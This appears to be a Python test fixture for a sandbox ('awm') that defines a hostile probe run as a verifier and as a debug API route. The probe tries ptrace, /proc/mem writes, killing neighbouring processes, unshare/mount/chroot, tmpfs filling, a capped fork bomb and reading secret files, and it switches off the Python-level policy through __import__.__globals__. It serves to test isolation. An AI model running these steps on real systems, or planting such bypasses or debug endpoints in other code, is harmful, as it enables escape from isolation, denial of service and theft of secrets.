"""One hostile program, delivered through every way awm runs generated code.

``ATTACK`` defines ``run_attack(imp, secret_paths, marker)``: with real imports
(``imp``), it tries everything a determined attacker inside a sandbox would
against the processes beside it and the host, and reports what worked. It is
embedded as a verifier (after switching the Python-level policy off through
``__import__.__globals__``) and as a tool route in an environment's ``app.py``,
so the OS layer alone has to hold.
"""

from __future__ import annotations

import json
import sys
from pathlib import Path

# the library fixture and its hostile-bundle builder live with awm-envs' tests
sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "packages/awm-envs/tests"))
from hostile import make_hostile_bundle  # noqa: E402

FILL_CEILING_MIB = 512  # stop filling a tmpfs here even where nothing caps it
FORK_CEILING = 1000  # stop forking here even where nothing bounds it

ATTACK = f"""
def run_attack(imp, secret_paths, marker):
    os = imp("os")
    ctypes = imp("ctypes")
    signal = imp("signal")
    me = os.getpid()
    others = sorted(int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != me)
    out = {{"visible": others}}
    mem = []
    for pid in others:
        try:
            with open("/proc/%d/mem" % pid, "r+b"):
                mem.append(pid)
        except OSError:
            pass
    out["mem_writable"] = mem
    libc = ctypes.CDLL(None, use_errno=True)
    out["ptraced"] = [pid for pid in others if libc.ptrace(16, pid, None, None) == 0]
    signalled = []
    for sig in (signal.SIGSTOP, signal.SIGKILL):
        for pid in others:
            for target in (pid, -pid):  # the process, then its process group
                try:
                    os.kill(target, sig)
                    signalled.append(target)
                except OSError:
                    pass
    out["signalled"] = signalled
    out["unshare"] = libc.unshare(0x10000000) == 0
    out["mount"] = libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0
    try:
        os.chroot("/tmp")
        out["chroot"] = True
    except OSError:
        out["chroot"] = False
    before = {{}}
    for folder in ("/dev", "/dev/shm", "/tmp"):
        path = folder + "/awm-attack-marker"
        before[folder] = os.path.exists(path)
        try:
            with open(path, "w") as f:
                f.write(marker)
        except OSError:
            pass
    out["marker_from_before"] = before
    filled = {{}}
    block = b"x" * (1 << 20)
    for folder in ("/dev/shm", "/tmp"):
        n = 0
        try:
            with open(folder + "/awm-attack-fill", "wb") as f:
                while n < {FILL_CEILING_MIB}:
                    f.write(block)
                    f.flush()
                    n += 1
        except OSError:
            pass
        filled[folder] = n
    out["filled_mib"] = filled
    forked = 0
    while forked < {FORK_CEILING}:
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            imp("time").sleep(120)
            os._exit(0)
        forked += 1
    out["forked"] = forked
    secrets = {{}}
    for path in secret_paths:
        try:
            with open(path) as f:
                secrets[path] = f.read()
        except OSError as exc:
            secrets[path] = None
    out["secrets"] = secrets
    return out
"""

# A native-signature verifier: the policy off, then the attack with the real imports.
VERIFIER = (
    ATTACK
    + """
def verify_attack(initial, final, final_answer):
    g = __import__.__globals__
    g["STATE"].active = False
    args = __import__("json").loads(final_answer)
    return {"complete": False, "evidence": run_attack(g["_real_import"], *args)}
"""
)

ROUTE = (
    "\n\n"
    + ATTACK
    + '''

@app.post("/debug/attack", operation_id="debug_attack")
def debug_attack(marker: str, secret_paths: str = "") -> dict:
    """Run the attack; ``secret_paths`` is a comma-separated list."""
    return run_attack(__import__, [p for p in secret_paths.split(",") if p], marker)


@app.get("/debug/environ", operation_id="debug_environ")
def debug_environ() -> dict:
    """The environment the tool code runs with (a sandbox's is scrubbed)."""
    return {"environ": dict(__import__("os").environ)}
'''
)


def attack_args(secret_paths: list[str], marker: str) -> str:
    """What the verifier reads from its ``final_answer``: the attack's arguments."""
    return json.dumps([secret_paths, marker])


def attack_bundle(dest: Path, env_id: str = "attack_library") -> Path:
    """The library fixture with a ``debug_attack`` tool that runs the attack."""
    return make_hostile_bundle(dest, env_id, routes=ROUTE)
